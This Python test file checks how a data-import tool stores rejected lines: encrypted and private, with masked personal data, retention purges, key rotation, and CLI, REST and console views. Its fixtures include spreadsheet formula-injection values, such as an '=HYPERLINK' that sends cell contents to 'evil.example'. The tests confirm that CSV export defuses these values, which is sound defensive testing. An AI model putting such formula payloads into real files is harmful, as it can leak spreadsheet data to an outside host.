"""Dead letters (an import's rejected lines) are encrypted at rest, private, purged after the
retention period, and read back decrypted — masked unless revealed — by ``siyu import
rejected JOB``, REST and the console's import page."""

from __future__ import annotations

import os
import stat
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import orjson
from tests.cli.conftest import Cli, cli_env

from siyu.client import Siyu
from siyu.context import AppContext
from siyu.ingest import dead_letters, jobs
from siyu.profiles.pii import Keyring
from siyu.store.models import AuditEntry

PHONE, OTHER, EMAIL = "13912345678", "13987654321", "secret.person@example.com"


def _identify(phone: str, email: str, name: str) -> str:
    return orjson.dumps(
        {"type": "identify", "identifiers": {"phone": phone, "email": email}, "traits": {"name": name}}
    ).decode()


#: Segment calls, which are validated strictly: one bad identifier rejects the call (a
#: spreadsheet row instead keeps its good identifiers, see tests/ingest/test_spreadsheets.py).
ROWS = (
    "\n".join(
        [
            _identify("13700137000", "first@example.org", "第一"),
            _identify("13800138000", "ok@example.org", "好人"),
            _identify(PHONE, "not-an-email@@", '=HYPERLINK("http://evil.example/?"&A1,"点我")'),  # line 3
            _identify("12", EMAIL, "坏号码"),  # line 4: bad phone
            _identify(OTHER, "also@@bad", "另一个"),  # line 5: bad email
            "=1+2",  # line 6: not JSON, kept as the raw line
        ]
    )
    + "\n"
)


def import_bad_rows(client: Siyu, tmp_path: Path, name: str = "张三-13900000000.jsonl") -> Any:
    path = tmp_path / name
    path.write_text(ROWS, encoding="utf-8")
    report = client.import_file(path, "contacts")
    assert report.rejected == 4, report.as_dict()
    return report


def masked_job_name(client: Siyu, job_id: int) -> str:
    return str(jobs.job_status(client.ctx.db, job_id)["file"])  # type: ignore[index]


def test_dead_letters_are_encrypted_private_and_read_back(ctx: AppContext, tmp_path: Path) -> None:
    client = Siyu(ctx)
    report = import_bad_rows(client, tmp_path)
    path = Path(report.dead_letter)
    assert path.parent == ctx.settings.dead_letter_dir
    assert "13900000000" not in path.name and "张三" not in path.name  # the upload's name stays out
    assert masked_job_name(client, report.job_id) == "张三-139****0000.jsonl"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    data = path.read_bytes()
    for secret in (PHONE, "+86" + PHONE, OTHER, EMAIL, "HYPERLINK", "not-an-email"):
        assert secret.encode() not in data
    masked = client.import_rejected(report.job_id)
    assert [r["line"] for r in masked["rows"]] == [3, 4, 5, 6] and not masked["purged"]
    assert PHONE not in str(masked) and EMAIL not in str(masked) and "139****5678" in str(masked)
    assert masked["rows"][0]["record"]["traits"]["name"].startswith("=HYPERLINK")  # decrypted, as sent
    assert "=1+2" in masked["rows"][3]["raw"]
    clear = client.import_rejected(report.job_id, limit=1, offset=1, reveal=True, actor="test")
    assert [r["line"] for r in clear["rows"]] == [4]
    assert clear["rows"][0]["record"]["identifiers"]["email"] == EMAIL
    with ctx.db.session() as s:
        entry = s.query(AuditEntry).filter_by(action="pii.revealed", target_type="import_job").one()
        assert (entry.actor, entry.target_id) == ("test", str(report.job_id))


def test_a_line_written_with_another_key_or_cut_short_is_skipped(ctx: AppContext, tmp_path: Path) -> None:
    path = tmp_path / "import-9.rejected.enc"
    writer = dead_letters.DeadLetterWriter(path, ctx.keyring)
    writer.write({"line": 2, "field": "email", "reason": "bad", "record": {"email": EMAIL}})
    writer.close()
    with path.open("ab") as fh:
        fh.write(b"not base64 at all\n" + b"AQ==\n")  # garbage, then a truncated ciphertext
        fh.write(orjson.dumps({"line": 7, "field": "phone", "reason": "old plain file"}) + b"\n")
    rows = dead_letters.read(path, ctx.keyring, reveal=True)
    assert [r["line"] for r in rows] == [2, 7] and rows[0]["record"] == {"email": EMAIL}


def test_a_record_too_deep_to_write_keeps_its_verdict(ctx: AppContext, tmp_path: Path) -> None:
    deep: dict[str, Any] = {}
    node = deep
    for _ in range(300):
        node["x"] = {}
        node = node["x"]
    path = tmp_path / "import-3.rejected.enc"
    writer = dead_letters.DeadLetterWriter(path, ctx.keyring)
    writer.write({"line": 5, "field": "properties", "reason": "too deep", "record": deep})
    writer.close()
    [row] = dead_letters.read(path, ctx.keyring, reveal=True)
    assert (row["line"], row["field"], row["record"]) == (5, "properties", None) and "not kept" in row["raw"]


def test_purge_removes_only_files_past_retention(ctx: AppContext, tmp_path: Path) -> None:
    client = Siyu(ctx)
    old = import_bad_rows(client, tmp_path, "old.jsonl")
    new = import_bad_rows(client, tmp_path, "new.jsonl")
    month_ago = time.time() - 31 * 86_400
    os.utime(old.dead_letter, (month_ago, month_ago))
    unrelated = ctx.settings.dead_letter_dir / "README"
    unrelated.write_text("not a dead letter")
    os.utime(unrelated, (month_ago, month_ago))
    assert dead_letters.purge(ctx.settings.dead_letter_dir, 30) == 1
    assert not Path(old.dead_letter).exists() and Path(new.dead_letter).exists() and unrelated.exists()
    gone = client.import_rejected(old.job_id)
    assert gone["purged"] and gone["rows"] == [] and gone["rejected"] == 4
    # the background round's step purges too, then runs the rest of the round
    os.utime(new.dead_letter, (month_ago, month_ago))
    ran: list[Any] = []
    step = dead_letters.PurgeDeadLetters(ctx.settings.dead_letter_dir, 30, then=lambda wh, db: ran.append(db))
    step(None, ctx.db)
    assert not Path(new.dead_letter).exists() and ran == [ctx.db]


def test_each_import_purges_first(ctx: AppContext, tmp_path: Path) -> None:
    client = Siyu(ctx)
    old = import_bad_rows(client, tmp_path, "a.jsonl")
    long_ago = time.time() - 400 * 86_400
    os.utime(old.dead_letter, (long_ago, long_ago))
    import_bad_rows(client, tmp_path, "b.jsonl")
    assert not Path(old.dead_letter).exists()


def test_cli_import_rejected(ctx: AppContext, tmp_path: Path) -> None:
    report = import_bad_rows(Siyu(ctx), tmp_path)
    cli = Cli(cli_env(ctx.settings))
    data = cli.json("import", "rejected", str(report.job_id))
    assert [r["line"] for r in data["rows"]] == [3, 4, 5, 6] and PHONE not in str(data)
    clear = cli.json("import", "rejected", str(report.job_id), "--reveal", "--limit", "1")
    assert len(clear["rows"]) == 1 and clear["rows"][0]["record"]["identifiers"]["phone"] == PHONE
    csv = cli("import", "rejected", str(report.job_id), "--csv").stdout.splitlines()
    assert csv[0] == "line,field,reason,record" and len(csv) == 5
    jsonl = tmp_path / "events.jsonl"
    jsonl.write_text('{"type": "track", "userId": "u", "event": "ok"}\n=HYPERLINK("http://evil")\n')
    bad_json = Siyu(ctx).import_file(jsonl, "events")
    csv = cli("import", "rejected", str(bad_json.job_id), "--csv").stdout.splitlines()
    # a spreadsheet shows the line as text instead of running it
    assert csv[1].startswith("2,") and csv[1].endswith('"\'=HYPERLINK(""http://evil"")"')
    text = cli("import", "rejected", str(report.job_id)).stdout
    assert "line 3" in text and "139****5678" in text and PHONE not in text
    assert "not found" in cli.fails("import", "rejected", "99999").lower()


def test_rest_and_console(
    server: Any, api_key: Callable[[str], str], console_as: Callable[[str], Any], tmp_path: Path
) -> None:
    report = import_bad_rows(server.client, tmp_path)
    url = f"/api/v1/imports/{report.job_id}/rejected"
    operator = {"Authorization": f"Bearer {api_key('operator')}"}
    with httpx.Client(base_url=server.url, headers=operator, timeout=60) as http:
        masked = http.get(url, params={"limit": 2})
        assert masked.status_code == 200 and [r["line"] for r in masked.json()["rows"]] == [3, 4]
        assert PHONE not in masked.text and EMAIL not in masked.text
        clear = http.get(url, params={"reveal": "true", "offset": 1})
        assert clear.status_code == 200 and EMAIL in clear.text
        assert http.get(url, params={"limit": -1}).status_code == 422
        assert http.get("/api/v1/imports/99999/rejected").status_code == 404
    with httpx.Client(
        base_url=server.url, headers={"Authorization": f"Bearer {api_key('viewer')}"}, timeout=60
    ) as http:
        assert http.get(url).status_code == 403
    browser = console_as("operator")
    page = browser.get(f"/console/imports/{report.job_id}")
    assert page.status_code == 200 and 'data-line="3"' in page.text and "139****5678" in page.text
    assert PHONE not in page.text and EMAIL not in page.text and "{&#34;" not in page.text


def test_key_rotation_rewraps_dead_letters(tmp_path: Path) -> None:
    old, new = os.urandom(32), os.urandom(32)
    folder = tmp_path / "dead-letters"
    writer = dead_letters.DeadLetterWriter(dead_letters.path_for(folder, 1), Keyring([old]))
    writer.write({"line": 2, "field": "phone", "reason": "bad", "record": {"phone": PHONE}})
    writer.close()
    assert dead_letters.rewrap(folder, Keyring([new, old])) == 1
    assert dead_letters.rewrap(folder, Keyring([new, old])) == 0  # nothing left under the old key
    rows = dead_letters.read(dead_letters.path_for(folder, 1), Keyring([new]), reveal=True)
    assert rows[0]["record"] == {"phone": PHONE}
    assert stat.S_IMODE(dead_letters.path_for(folder, 1).stat().st_mode) == 0o600
    assert dead_letters.read(dead_letters.path_for(folder, 1), Keyring([old])) == []  # old key: unreadable
